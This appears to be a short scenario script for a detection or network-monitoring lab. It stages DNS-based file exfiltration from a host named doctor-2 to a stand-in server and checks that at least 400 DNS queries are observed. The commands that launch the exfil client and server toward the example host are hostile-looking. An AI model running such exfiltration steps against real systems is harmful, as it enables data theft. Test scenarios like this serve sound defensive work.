# Attack: a small program on Læge 2 carries a file out in DNS names.
CHECK="dns>=400"
prepare() { serve internet exfil python3 "$RECORD/programs/exfil.py" server 203.0.113.54; }
play() { on doctor-2 python3 "$RECORD/programs/exfil.py" client x.statistik-node.example 26000; }
